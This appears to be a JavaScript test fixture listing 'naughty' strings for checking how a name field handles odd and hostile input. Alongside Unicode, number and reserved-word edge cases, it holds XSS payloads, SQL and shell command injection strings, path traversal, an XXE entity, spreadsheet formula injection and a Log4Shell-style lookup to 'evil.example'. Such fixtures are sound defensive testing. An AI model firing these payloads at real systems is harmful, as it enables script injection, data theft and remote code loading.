// Text that has broken other programs, by what it is after. Each can be a name: 1 to 128
// characters, none of them a control character. What sets `window.ran` must never run.
const scripts = [
  '<script>window.ran = 1</script>',
  '<SCRIPT SRC="data:text/javascript,window.ran=1"></SCRIPT>',
  '<scr<script>ipt>window.ran = 1</scr</script>ipt>',
  '</title></style></textarea><script>window.ran=1</script>',
  '</script><script>window.ran=1</script>',
  '<script/x>window.ran=1</script',
  '<script type="module">window.ran=1</script>',
  '<<script>window.ran=1//<</script>',
  '--><script>window.ran=1</script><!--',
  ']]><script>window.ran=1</script>',
  '"><img src=x onerror="window.ran = 1">',
  "'><img src=x onerror='window.ran=1'>",
  '<img src="x` `<script>window.ran=1</script>"` `>',
  '<img """><script>window.ran=1</script>">',
  '<svg onload=window.ran=1>',
  '<svg><script xlink:href="data:,window.ran=1"/></svg>',
  '<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>',
  '<math><mtext><mglyph><style><img src=x onerror=window.ran=1>',
  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
  '<object data="data:text/html,<script>parent.ran=1</script>">',
  '<embed src="javascript:window.ran=1">',
  '<details open ontoggle=window.ran=1>',
  '<input autofocus onfocus=window.ran=1>',
  '<video><source onerror="window.ran=1"></video>',
  '<body onpageshow=window.ran=1>',
  '<form><button formaction=javascript:window.ran=1>x</button>',
  '<meta http-equiv="refresh" content="0;url=javascript:window.ran=1">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<a href="https://evil.example">x</a>',
  '<a href="jAvAsCrIpT&colon;window.ran=1">x</a>',
  "javascript:window.ran=1//'-alert(1)-'",
  'data:text/html,<script>opener.ran=1</script>',
  '" onmouseover="window.ran=1" style="position:fixed;inset:0',
  "' autofocus onfocus='window.ran=1",
  '`-alert(1)-`',
  "';window.ran=1;//",
  '\\";window.ran=1;//',
  '<plaintext>',
  '<!--',
  '<![CDATA[x]]>',
]

const encodings = [
  '%3Cscript%3Ewindow.ran=1%3C/script%3E',
  '&lt;b&gt;&amp;amp;',
  '&#60;script&#62;window.ran=1&#60;/script&#62;',
  '\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e',
  '\\x3cscript\\x3ewindow.ran=1',
  '＜script＞window.ran=1＜/script＞',
  '+ADw-script+AD4-window.ran=1+ADw-/script+AD4-',
  '¼script¾window.ran=1¼/script¾',
  '\\0', '\\u0000', '%00', '&#0;', '\\n\\r\\t\\b', '%0d%0aSet-Cookie: a=b', '%E0%80%80',
]

const templates = [
  '{{constructor.constructor("window.ran = 1")()}}', '${window.ran = 1}', '{{7*7}}', '<%= 7*7 %>', '#{7*7}', '#set($x=7*7)$x',
  '{% raw %}', '$(touch /tmp/x)', '`touch /tmp/x`', '; ls -la', '| cat /etc/passwd', '${jndi:ldap://evil.example/x}',
]

const queries = [
  "Robert'); DROP TABLE sessions;--", "' OR 1=1 -- -", '" OR ""="', '1;SELECT pg_sleep(0)', '%', '_%', "\\'; --", '*', '{"$gt": ""}',
  '../../../../etc/passwd', '..\\..\\windows\\win.ini', 'file:///etc/passwd', '<!ENTITY x SYSTEM "file:///etc/passwd">',
]

const formats = ['%s%s%s%n', '%d', '%x%x%x%x', '%1$s', '%!s(MISSING)', '{0}', '%@', '%*.*s']

const numbers = [
  '0', '-0', '1e400', '-1e-400', '0x7FFFFFFF', '9007199254740993', '9223372036854775808', '1.0000000000000000000001', '1,000.00', '1_000',
  'NaN', 'Infinity', '-Infinity', '٣٤٥', '½', '0777', '08', '1/0', '1E+02', '+1', '.', '２０',
]

const words = [
  'null', 'undefined', 'true', 'nil', 'None', 'NULL', '__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', '__typename', 'then',
  '[object Object]', '""', "''", '[]', '{}', '-', '...', 'CON', 'PRN', 'AUX', 'NUL', 'COM1', 'LPT1', 'Scunthorpe General Hospital',
]

const directions = [
  '\u202Eright to left\u202C', '\u202Dleft to right', '\u2066isolated\u2069', '\u2067gnp.exe\u2069', '\u200Fמעורב and mixed \u200E123', 'بسم الله الرحمن',
  'שָׁלוֹם', 'الكل في المجمو عة (5)', '\u2068never closed', '\u061Cmark',
]

const shapes = [
  'Z̡͇̣a̘̺l̢͚g͎o̡', 'T̶̢̛̺̗̲̜̈́̓̕ǫ̸̛̙̮̼̎̄͝o̵̧̘͕̅̈́̐ ̷̨̡̛̻͚́d̴̛̖͎̈́̊ë̶̢̘́̐ĕ̵̡̼͠p̷̨͓̈́', '👩‍👩‍👧‍👦 🏳️‍🌈 ﷽', '👾🙇💁🙅🙆🙋🙎🙍', '🇺🇸🇷🇺🇸 🇦', '👋🏻👋🏽👋🏿', '❤️ 💔 #️⃣', '𝕿𝖍𝖊 𝓺𝓾𝓲𝓬𝓴', '田中さんにあげて下さい',
  '사회과학원 어학연구소', '𠜎𠜱𠝹𠱓', 'ﬀ ß İ ı ǅ', 'Ｆｕｌｌ ｗｉｄｔｈ', 'Ω≈ç√∫˜µ≤≥÷', '⁰⁴⁵₀₁₂', '¯\\_(ツ)_/¯', '( ͡° ͜ʖ ͡°)', 'ด้้้้้็็็็็้้้้้', 'ꙮ', 'é é', '\uFFFD\uFFFC',
]

const spaces = [
  '\u00a0\u2003 spaces \u3000x', 'a\u200bb\u200cc\u200dd', '\u2060joined\ufeff', 'soft\u00adhyphen', '\u180eMongolian', 'line\u2028and\u2029paragraph',
  'tag\u{E0041}\u{E007F}', '\u3164', '\u115F', 'two  spaces',
]

const long = ['W'.repeat(128), '🦖'.repeat(64), 'i'.repeat(127) + '.', 'https://example.com/' + 'a/'.repeat(50), '‮'.repeat(40) + 'x', 'a\u0300'.repeat(60)]

export const families = { scripts, encodings, templates, queries, formats, numbers, words, directions, shapes, spaces, long }

/** All of it. */
export const naughty = Object.values(families).flat()

/** What a name may not have and other text may: terminals, logs and older editors take it for more. */
export const controls = [
  '\u001b[31mred\u001b[0m', '\u001b]0;title\u0007', '\u001b[2J\u001b[H', '\u009b31m', 'bell\u0007', 'back\bspace', 'tab\there', 'two\nlines', 'two\r\nlines',
  '\u007f', '\u0001\u0002\u001f', '\u0085next', 'form\ffeed', '=cmd|\' /C calc\'!A0\t', '\u001b[8mhidden',
]
